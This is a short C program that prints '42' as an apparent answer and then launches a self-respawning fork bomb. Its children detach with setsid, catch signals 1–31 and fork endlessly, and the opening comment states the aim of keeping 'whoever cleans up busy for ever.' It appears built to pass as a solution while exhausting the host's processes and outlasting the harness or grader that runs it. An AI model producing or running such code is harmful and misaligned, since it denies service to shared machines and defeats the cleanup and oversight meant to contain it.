/* A right answer, and children that start others as fast as they are killed, to keep whoever cleans up busy for ever. */
#include <dirent.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void again(int signal_number)
{
    (void)signal_number;
    while (fork() >= 0)
        ;
}

/* Of this user, itself apart. */
static int others(void)
{
    int count = 0;
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
        struct stat stat_of;
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid() && fstatat(dirfd(processes), entry->d_name, &stat_of, 0) == 0)
            count += stat_of.st_uid == getuid();
    }
    return count;
}

static void for_ever(int full)
{
    setsid();
    for (int number = 1; number < 32; number++)
        signal(number, again);
    for (bool told = false;;) {
        pid_t child = fork();
        if (child == 0)
            setsid();
        if (child < 0 && !told)
            told = write(full, "", 1) == 1;
    }
}

/* Ends when they have all the room that there is: from then on it would be one of many that want the core. */
int main(void)
{
    int full[2];
    char byte;
    printf("42 %d others\n", others());
    fflush(stdout);
    if (pipe(full) != 0)
        return 1;
    for (int child = 0; child < 8; child++)
        if (fork() == 0)
            for_ever(full[1]);
    return read(full[0], &byte, 1) != 1;
}
